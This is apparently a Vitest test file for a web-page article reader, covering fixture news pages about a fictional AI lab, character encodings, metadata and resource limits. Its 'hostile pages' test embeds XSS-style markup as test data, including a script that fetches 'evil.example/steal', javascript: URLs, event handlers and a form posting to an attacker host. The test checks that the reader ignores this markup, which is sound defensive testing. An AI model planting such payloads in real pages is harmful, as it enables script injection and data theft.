// The web page reader on pages saved by Chromium (the page as served, the
// live document it saves as HTML), legacy encodings written by iconv, and
// hostile pages. The article pages are ours (src/main/import/fixtures/web),
// modelled on a French daily, an English broadcaster and a WordPress blog.
import dns from 'node:dns'
import { readFileSync } from 'node:fs'
import net from 'node:net'
import { Readability } from '@mozilla/readability'
import { beforeAll, describe, expect, it, vi } from 'vitest'
import type { SavedPage } from '../../../../test-support/browser-fixtures'
import {
  iconv,
  savedWebPages,
  WEB_FIXTURES,
  WEB_PAGES,
  webSource,
  type WebPage,
} from '../../../../test-support/web-pages'
import { dateOf, decodeHtml, HTML_MAX_BYTES, readHtml } from './html'
import { FormatError, type ReadDocument } from './types'

const context = { fileName: 'page.html' }

async function problemOf(promise: Promise<unknown>): Promise<string> {
  try {
    await promise
  } catch (e) {
    if (e instanceof FormatError) return e.problem
    throw e
  }
  throw new Error('read without a problem')
}

function bytes(html: string): Uint8Array {
  return new TextEncoder().encode(html)
}

let saved: Record<WebPage, SavedPage>

beforeAll(async () => {
  saved = await savedWebPages()
}, 120_000)

/** Reads the page as served and as Chromium saved it: both must give the same article. */
async function readBoth(key: WebPage): Promise<ReadDocument> {
  const served = await readHtml(webSource(key), context)
  const fromChromium = await readHtml(saved[key].html, context)
  expect(fromChromium).toEqual(served)
  return fromChromium
}

describe('readHtml on article pages saved by Chromium', () => {
  it('reads the French daily: the article without header, share bar, paywall, comments or the cookie banner', async () => {
    const doc = await readBoth('courrier')
    expect(doc.title).toBe('Chez Nébula, la culture du secret à l’épreuve de la croissance')
    expect(doc.attributes).toEqual({
      author: 'Claire Moreau',
      outlet: 'Le Courrier du Matin',
      published: '2025-03-14',
      url: WEB_PAGES.courrier.url,
      language: 'fr',
    })
    expect(doc.encoding).toBe('UTF-8')
    expect(doc.blocks).toHaveLength(10)
    expect(doc.blocks[0]).toBe(
      'La jeune pousse parisienne, passée de quarante à neuf cents salariés en trois ans, peine à concilier sa tradition de discrétion avec la transparence qu’impose sa taille.',
    )
    expect(doc.blocks[1]).toBe('Dans les locaux de Nébula, à Paris, le 6 février 2025.')
    expect(doc.blocks).toContain('Une croissance menée au pas de course')
    expect(doc.blocks).toContain('La sécurité, un sujet qui divise')
    // No-break spaces of French typography are kept.
    expect(doc.blocks[3]).toBe(
      'Ce cloisonnement fut longtemps une fierté. Les deux fondateurs, chercheurs venus du public, y voyaient le moyen de protéger des travaux que de plus grands laboratoires auraient pu copier. La règle tenait en une phrase, affichée dans la cuisine\u00a0: «\u00a0Ce qui se dit ici reste ici.\u00a0»',
    )
    expect(doc.blocks.at(-1)).toBe(
      'En janvier, une lettre interne signée par près de deux cents salariés demandait la création d’un comité indépendant. La direction assure avoir «\u00a0entendu le message\u00a0» et promet un premier rapport public avant l’été, sans en préciser le contenu.',
    )
    const text = doc.blocks.join('\n')
    for (const chrome of [
      'Économie',
      'Intelligence artificielle',
      'Par Claire',
      'Publié le',
      'Partager',
      'JULIEN ROCHE',
      'Lire aussi',
      'abonnés',
      'Contributions',
      'Jules B.',
      'cookies',
      'Les plus lus',
      'Mentions légales',
      'dataLayer',
    ])
      expect(text).not.toContain(chrome)
  })

  it('reads the English broadcaster: byline element, figure caption kept, related links dropped', async () => {
    const doc = await readBoth('nbs')
    expect(doc.title).toBe('Nebula: Inside the AI lab that grew too fast to keep its secrets')
    expect(doc.attributes).toEqual({
      author: 'Tom Ellison',
      outlet: 'NBS News',
      published: '2025-02-03',
      url: WEB_PAGES.nbs.url,
      language: 'en-GB',
    })
    expect(doc.blocks).toHaveLength(15)
    expect(doc.blocks[0]).toBe(
      'When Nebula moved into its first office in 2021, the whole company fitted around two kitchen tables. Today it employs more than 900 people in three countries, and some of them say the culture that made it successful has become its biggest risk.',
    )
    expect(doc.blocks[2]).toBe(
      'Nebula’s Paris offices have grown from a single floor to six in two years',
    )
    expect(doc.blocks.slice(6, 11)).toEqual([
      'Staff described several changes since the company’s last funding round:',
      'hiring targets that doubled the size of some teams in six months',
      'new offices in London and Montreal, each with its own leadership',
      'safety reviews moved from a dedicated team into individual product groups',
      'Safety concerns',
    ])
    expect(doc.blocks.at(-1)).toBe(
      'Critics say that argument is wearing thin. “Every lab says that,” said Dr Amina Patel, who studies AI governance at the University of Leeds. “The question is who gets to check.”',
    )
    const text = doc.blocks.join('\n')
    for (const chrome of [
      'Skip to content',
      'Weather',
      'Tom Ellison',
      'Technology reporter',
      '3 February 2025',
      'Share',
      'Getty Images',
      'Image caption',
      'More on this story',
      'Related topics',
      'Top stories',
      'Copyright',
      '__INITIAL_DATA__',
    ])
      expect(text).not.toContain(chrome)
  })

  it('reads the WordPress blog: entry meta, sidebar widgets, post navigation and comments dropped', async () => {
    const doc = await readBoth('blog')
    // The title's " – Field Notes" follows the post's own heading: it is the blog's name.
    expect(doc.title).toBe('What I learned covering Nebula for a year')
    // A plain WordPress theme names no outlet in its metadata.
    expect(doc.attributes).toEqual({
      author: 'Marie Lenoir',
      published: '2024-11-20',
      url: WEB_PAGES.blog.url,
      language: 'en-US',
    })
    expect(doc.blocks).toHaveLength(11)
    expect(doc.blocks[0]).toBe(
      'A year ago my editor asked me to “keep an eye on Nebula”. I assumed it would mean a few stories about funding rounds. Instead it turned into a long lesson in how a company’s culture changes when it grows faster than anyone planned.',
    )
    expect(doc.blocks.slice(4, 10)).toEqual([
      'Three things I would tell another reporter',
      'Talk to the people who left, not only to the people who stayed.',
      'Ask about safety reviews in detail: who runs them, and who can stop a launch.',
      'Treat “we can’t comment for competitive reasons” as a story in itself.',
      'Secrecy is cheap when you are forty people. It gets expensive when you are nine hundred.',
      'A former product lead',
    ])
    expect(doc.blocks.at(-1)).toBe(
      'None of this means Nebula is unusual. It may simply be the first lab in France to face these questions at this size, in public. I will keep following it, and I would like to hear from anyone who works there.',
    )
    const text = doc.blocks.join('\n')
    for (const chrome of [
      'Skip to content',
      'A reporter’s notebook',
      'Posted on',
      'Marie Lenoir',
      'Categorized',
      'Tagged',
      'Previous post',
      'Post navigation',
      'Sam Okafor',
      'Leave a comment',
      'Recent Posts',
      'Archives',
      'Proudly powered',
    ])
      expect(text).not.toContain(chrome)
  })

  it('reads a ~200 KB page (inline CSS, state JSON, SVG icons, mega menu, comments) well under 40 ms', async () => {
    const light = await readHtml(saved.courrier.html, context)
    const heavy = bytes(heavyPage(new TextDecoder().decode(saved.courrier.html)))
    expect(heavy.length).toBeGreaterThan(190_000)
    expect(heavy.length).toBeLessThan(230_000)
    // The page's weight changes nothing in what is read.
    expect(await readHtml(heavy, context)).toEqual(light)
    for (let i = 0; i < 5; i++) await readHtml(heavy, context)
    const wall: number[] = []
    const cpu: number[] = []
    for (let i = 0; i < 25; i++) {
      const cpuStart = process.cpuUsage()
      const start = performance.now()
      await readHtml(heavy, context)
      wall.push(performance.now() - start)
      const used = process.cpuUsage(cpuStart)
      cpu.push((used.user + used.system) / 1000)
    }
    const median = (values: number[]) => values.sort((a, b) => a - b)[values.length >> 1]!
    // On a shared machine the wall time depends on the others' load; the CPU time (this process) much less.
    console.info(
      `readHtml on a ${(heavy.length / 1024).toFixed(0)} KB page: median ${median(wall).toFixed(1)} ms wall, ` +
        `${median(cpu).toFixed(1)} ms CPU (best ${Math.min(...cpu).toFixed(1)} ms)`,
    )
    // A hang guard, not the target: the figures printed above are the measure.
    expect(median(cpu)).toBeLessThan(150)
  })
})

/**
 * The French page with the weight of a real news page around its article:
 * inline CSS, a framework's state JSON, inline SVG icons, a mega menu,
 * a comment thread and a related-articles grid (~200 KB).
 */
function heavyPage(html: string): string {
  const css = Array.from(
    { length: 1400 },
    (_, i) =>
      `.c-${i.toString(36)}{display:flex;margin:0 ${i % 17}px;color:#${(i * 2654435761).toString(16).slice(0, 6).padEnd(6, '0')}}`,
  ).join('\n')
  const state = JSON.stringify({
    props: {
      pageProps: {
        menu: Array.from({ length: 120 }, (_, i) => ({
          id: i,
          label: `Rubrique ${i}`,
          href: `/rubrique-${i}/`,
        })),
        recirculation: Array.from({ length: 80 }, (_, i) => ({
          id: 6548000 + i,
          title: `Titre d’un autre article numéro ${i}, sans rapport avec celui-ci`,
          url: `/article/${6548000 + i}.html`,
        })),
      },
    },
  })
  const icon = (i: number) =>
    `<svg class="icon icon-${i}" viewBox="0 0 24 24" aria-hidden="true"><path d="M${i} 2 L22 ${i % 20} L${i % 7} 22 Z M4 4 h16 v16 h-16 z"/><path d="M12 ${i % 9} a4 4 0 1 0 0.1 0"/></svg>`
  const menu = `<div class="MegaMenu" role="navigation">${Array.from(
    { length: 25 },
    (_, s) =>
      `<section><h3>Rubrique ${s}</h3><ul>${Array.from(
        { length: 12 },
        (_, i) =>
          `<li><a href="/rubrique-${s}/sous-rubrique-${i}/">${icon(i)}Sous-rubrique ${s}.${i}</a></li>`,
      ).join('')}</ul></section>`,
  ).join('')}</div>`
  const comments = `<section class="comments-extra">${Array.from(
    { length: 100 },
    (_, i) =>
      `<div class="comment"><p class="comment__author">Lecteur ${i}</p><p class="comment__text">Je ne suis pas d’accord avec ce point de vue, numéro ${i}, et je le dis avec des virgules, beaucoup de virgules, comme un vrai paragraphe.</p><button>Répondre</button></div>`,
  ).join('')}</section>`
  const grid = `<section class="recirculation related-grid">${Array.from(
    { length: 40 },
    (_, i) =>
      `<div class="teaser"><a href="/article/${i}.html"><img src="/img/${i}.jpg" alt=""><h3>Autre article ${i} sur un tout autre sujet</h3></a><span class="teaser__date">il y a ${i} h</span></div>`,
  ).join('')}</section>`
  return html
    .replace(
      '</head>',
      `<style>${css}</style><script id="__NEXT_DATA__" type="application/json">${state}</script></head>`,
    )
    .replace('<main id="main">', `${menu}<main id="main">`)
    .replace('</main>', `${comments}${grid}</main>`)
}

describe('readHtml on encodings', () => {
  const legacy = readFileSync(`${WEB_FIXTURES}/legacy-windows-1252.html`, 'utf8')
  const expectedLegacy = {
    title: 'Nébula ouvre un bureau à Montréal',
    blocks: [
      'Communiqué – Paris, le 2 septembre 2024',
      'Nébula annonce l’ouverture d’un bureau à Montréal, son deuxième hors de France après Londres. Une équipe de quarante chercheurs et ingénieurs s’y consacrera à l’évaluation et à la sécurité des modèles.',
      '«\u00a0Nous voulons que la sécurité grandisse au même rythme que l’entreprise\u00a0», déclare Hélène Varin, directrice générale. L’investissement prévu atteint 25\u00a0M€ sur trois ans\u00a0; l’équipe s’installera dans le Mile End, cœur de la recherche en intelligence artificielle de la ville.',
      'Le bureau de Montréal travaillera avec les équipes de Paris, mais publiera ses propres rapports, à la demande des chercheurs recrutés, attachés à la transparence de leurs travaux.',
      'Contact presse\u00a0: presse@nebula.example – © Nébula 2024',
    ],
    attributes: { author: 'Service de presse de Nébula', language: 'fr' },
  }

  it('decodes a windows-1252 page by its <meta charset>', async () => {
    const page = iconv(legacy, 'WINDOWS-1252')
    expect(page[page.indexOf(0x80) - 1]).toBe(0x4d) // "M€" as one byte each: really windows-1252
    expect(await readHtml(page, context)).toEqual({ ...expectedLegacy, encoding: 'windows-1252' })
  })

  it('decodes by an http-equiv content type, and windows-1252 bytes that declare nothing', async () => {
    const httpEquiv = legacy.replace(
      '<meta charset="windows-1252" />',
      '<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">',
    )
    expect(httpEquiv).not.toBe(legacy)
    // iso-8859-1 means windows-1252 on the web (WHATWG Encoding).
    expect(await readHtml(iconv(httpEquiv, 'WINDOWS-1252'), context)).toEqual({
      ...expectedLegacy,
      encoding: 'windows-1252',
    })
    const undeclared = legacy.replace('<meta charset="windows-1252" />', '')
    expect(await readHtml(iconv(undeclared, 'WINDOWS-1252'), context)).toEqual({
      ...expectedLegacy,
      encoding: 'windows-1252',
    })
    expect(await readHtml(bytes(undeclared), context)).toEqual({
      ...expectedLegacy,
      encoding: 'UTF-8',
    })
  })

  it('decodes UTF-16 with a BOM (little and big endian), whatever the page declares', async () => {
    const unicode = legacy.replace('windows-1252', 'utf-16')
    const le = iconv(unicode, 'UTF-16')
    expect([le[0], le[1]]).toEqual([0xff, 0xfe])
    expect(await readHtml(le, context)).toEqual({ ...expectedLegacy, encoding: 'UTF-16LE' })
    const be = iconv(`\ufeff${legacy}`, 'UTF-16BE')
    expect([be[0], be[1]]).toEqual([0xfe, 0xff])
    expect(await readHtml(be, context)).toEqual({ ...expectedLegacy, encoding: 'UTF-16BE' })
    // A UTF-8 BOM wins over the page's windows-1252 declaration.
    expect(await readHtml(bytes(`\ufeff${legacy}`), context)).toEqual({
      ...expectedLegacy,
      encoding: 'UTF-8',
    })
  })

  it('reads a UTF-16 declaration without a BOM as UTF-8, as browsers do', () => {
    expect(decodeHtml(bytes('<meta charset="utf-16"><p>été</p>'))).toEqual({
      text: '<meta charset="utf-16"><p>été</p>',
      encoding: 'UTF-8',
    })
    expect(decodeHtml(bytes('<meta charset="no-such-charset"><p>été</p>')).encoding).toBe('UTF-8')
    // A declaration inside a comment is not one.
    expect(decodeHtml(bytes('<!-- <meta charset="koi8-r"> --><p>été</p>')).encoding).toBe('UTF-8')
  })
})

describe('readHtml attributes', () => {
  const page = (head: string, html = '<html>') =>
    bytes(
      `<!doctype html>${html}<head>${head}</head><body><article><h1>Un titre</h1><p>${'Un paragraphe assez long pour être un article, avec des virgules, des mots et encore des mots. '.repeat(4)}</p></article></body></html>`,
    )

  it('reads JSON-LD in a @graph, authors as a list, and keeps only http(s) URLs', async () => {
    const doc = await readHtml(
      page(
        `<title>Un titre | Le Site</title><link rel="canonical" href="javascript:alert(1)"><meta property="og:url" content="ftp://files.example/a">
        <script type="application/ld+json">{"@context":"https://schema.org","@graph":[{"@type":"WebSite","name":"Le Site"},{"@type":["NewsArticle"],"headline":"Un titre","datePublished":"2023-12-31T23:30:00-05:00","author":[{"@type":"Person","name":"Ana Ruiz"},{"@type":"Person","name":"Léo Petit"}],"publisher":{"@type":"Organization","name":"Le Site"}}]}</script>`,
      ),
      context,
    )
    expect(doc.title).toBe('Un titre')
    // The date as the outlet wrote it, not moved to UTC.
    expect(doc.attributes).toEqual({
      author: 'Ana Ruiz, Léo Petit',
      outlet: 'Le Site',
      published: '2023-12-31',
    })
  })

  it('strips a site-name suffix from <title>, resolves a relative canonical link and takes og:locale without lang', async () => {
    const doc = await readHtml(
      page(
        `<title>Un autre titre - Le Site</title><meta property="og:site_name" content="Le Site"><meta property="og:url" content="https://le-site.example/a/1"><link rel="canonical" href="/articles/1"><meta property="og:locale" content="fr_CA"><meta name="author" content="Par Zoé Martin">`,
      ),
      context,
    )
    expect(doc.title).toBe('Un autre titre')
    expect(doc.attributes).toEqual({
      author: 'Zoé Martin',
      outlet: 'Le Site',
      url: 'https://le-site.example/articles/1',
      language: 'fr-CA',
    })
  })

  it('reads published dates as YYYY-MM-DD', () => {
    expect(dateOf('2025-03-14T06:30:12+01:00')).toBe('2025-03-14')
    expect(dateOf('2025-03-14')).toBe('2025-03-14')
    expect(dateOf('Tue, 04 Feb 2025 10:00:00 GMT')).toBe('2025-02-04')
    expect(dateOf('2025-02-30T10:00:00Z')).toBeUndefined()
    expect(dateOf('yesterday')).toBeUndefined()
    expect(dateOf('')).toBeUndefined()
  })
})

describe('readHtml on hostile pages', () => {
  const article = [
    'The first paragraph of the article is long enough to be read as one, with commas, clauses and a link to a source that is not followed.',
    'The second paragraph says more about the company’s culture, its growth, its secrecy and its safety reviews, in plain words.',
    'The third paragraph closes the article and is the last text that belongs to it, after all the hostile markup around it.',
  ]

  it('keeps only the article text: no script, handler, frame, form, style, template or image ever matters', async () => {
    const dataUri = `data:image/png;base64,${'iVBORw0KGgo'.repeat(480_000)}`
    expect(dataUri.length).toBeGreaterThan(5_000_000)
    const hostile = `<!doctype html><html lang="en"><head><title>Hostile page</title>
      <meta http-equiv="refresh" content="0;url=javascript:alert('refresh')"><base href="javascript:alert('base')//">
      <script>document.write('<p>INJECTED BY SCRIPT</p>'); fetch('https://evil.example/steal')</script>
      <link rel="stylesheet" href="https://evil.example/style.css"><style>body::after{content:"STYLE TEXT"}</style></head>
      <body onload="alert('onload')">
      <iframe src="https://evil.example/frame.html">FRAME FALLBACK</iframe><iframe srcdoc="<p>SRCDOC TEXT</p>"></iframe>
      <article><h1>Hostile page</h1>
      <p onclick="alert('click')">${article[0]!.replace('a link', '<a href="javascript:alert(\'link\')">a link</a>')}</p>
      <img src="x" onerror="alert('onerror')" alt="ALT TEXT"><img src="${dataUri}" alt="DATA IMAGE">
      <img src="https://tracker.example/pixel.gif?id=1" srcset="https://tracker.example/2x.gif 2x">
      <p>${article[1]}</p><script>alert("SCRIPT IN ARTICLE")</script><noscript><p>NOSCRIPT TEXT</p></noscript>
      <object data="https://evil.example/x.swf">OBJECT TEXT</object><embed src="https://evil.example/y.swf">
      <svg><script>alert('svg')</script><text>SVG TEXT</text></svg><math><mtext>MATH TEXT</mtext></math>
      <form action="https://evil.example/post"><input value="INPUT VALUE"><button onclick="alert('button')">BUTTON TEXT</button><textarea>TEXTAREA TEXT</textarea></form>
      <template><p>TEMPLATE TEXT</p></template>
      <p>${article[2]}</p></article>
      <video src="https://evil.example/v.mp4" poster="https://evil.example/p.jpg">VIDEO TEXT</video>
      </body></html>`
    const fetchSpy = vi.spyOn(globalThis, 'fetch')
    const connectSpy = vi.spyOn(net.Socket.prototype, 'connect')
    const lookupSpy = vi.spyOn(dns, 'lookup')
    try {
      const start = performance.now()
      const doc = await readHtml(bytes(hostile), context)
      const elapsed = performance.now() - start
      expect(doc.blocks).toEqual(article)
      expect(doc.title).toBe('Hostile page')
      expect(doc.attributes).toEqual({ language: 'en' })
      expect(JSON.stringify(doc)).not.toMatch(/alert|INJECTED|evil|tracker|data:image|TEXT|VALUE/)
      // The 5 MB image costs a parse, nothing more.
      expect(elapsed).toBeLessThan(5_000)
      expect(fetchSpy).not.toHaveBeenCalled()
      expect(connectSpy).not.toHaveBeenCalled()
      expect(lookupSpy).not.toHaveBeenCalled()
    } finally {
      vi.restoreAllMocks()
    }
  })

  it('says no-text for a page with nothing readable', async () => {
    const empty = `<!doctype html><html><head><title>Accueil</title><script>var x = "du texte dans un script"</script></head>
      <body><header><nav><a href="/">Accueil</a><a href="/a">Actualités</a></nav></header>
      <div class="cookie-banner">Nous utilisons des cookies.</div><img src="a.jpg" alt="une image">
      <footer>© 2025 Le Site</footer></body></html>`
    expect(await problemOf(readHtml(bytes(empty), context))).toBe('no-text')
    expect(await problemOf(readHtml(new Uint8Array(0), context))).toBe('no-text')
    expect(await problemOf(readHtml(bytes(' \n\t '), context))).toBe('no-text')
  })

  it('refuses markup over 50 MB before reading it', async () => {
    expect(await problemOf(readHtml(new Uint8Array(HTML_MAX_BYTES + 1), context))).toBe('too-large')
  })

  it('refuses markup nested a million deep, quickly', async () => {
    const start = performance.now()
    expect(await problemOf(readHtml(bytes(`${'<div>'.repeat(1_000_000)}texte`), context))).toBe(
      'too-large',
    )
    expect(performance.now() - start).toBeLessThan(5_000)
  })

  it('reads pages too deep or too big for Readability through the body, quickly', async () => {
    const start = performance.now()
    const deep = `<html><body><header><nav>Menu</nav></header>${'<div>'.repeat(3000)}<p>${article[0]}</p>${'</div>'.repeat(3000)}<footer>Pied</footer></body></html>`
    expect((await readHtml(bytes(deep), context)).blocks).toEqual([article[0]])
    const wide = `<html><body><nav>Menu</nav><main>${'<p><span>Une ligne.</span></p>'.repeat(20_000)}</main><aside class="sidebar">Barre</aside></body></html>`
    const doc = await readHtml(bytes(wide), context)
    expect(doc.blocks).toHaveLength(20_000)
    expect(doc.blocks.every((b) => b === 'Une ligne.')).toBe(true)
    expect(performance.now() - start).toBeLessThan(10_000)
  })

  it('reads the body without its chrome when Readability fails: the same article on these pages', async () => {
    const withReadability = await Promise.all(
      (['courrier', 'nbs', 'blog'] as const).map((page) => readHtml(saved[page].html, context)),
    )
    const parse = vi.spyOn(Readability.prototype, 'parse').mockImplementation(() => {
      throw new Error('Readability cannot read this')
    })
    try {
      const without = await Promise.all(
        (['courrier', 'nbs', 'blog'] as const).map((page) => readHtml(saved[page].html, context)),
      )
      expect(parse).toHaveBeenCalledTimes(3)
      expect(without).toEqual(withReadability)
    } finally {
      vi.restoreAllMocks()
    }
  })

  it('stops when the analyst cancels', async () => {
    const cancelled = { fileName: 'page.html', cancelled: () => true }
    expect(await problemOf(readHtml(saved.nbs.html, cancelled))).toBe('cancelled')
  })
})
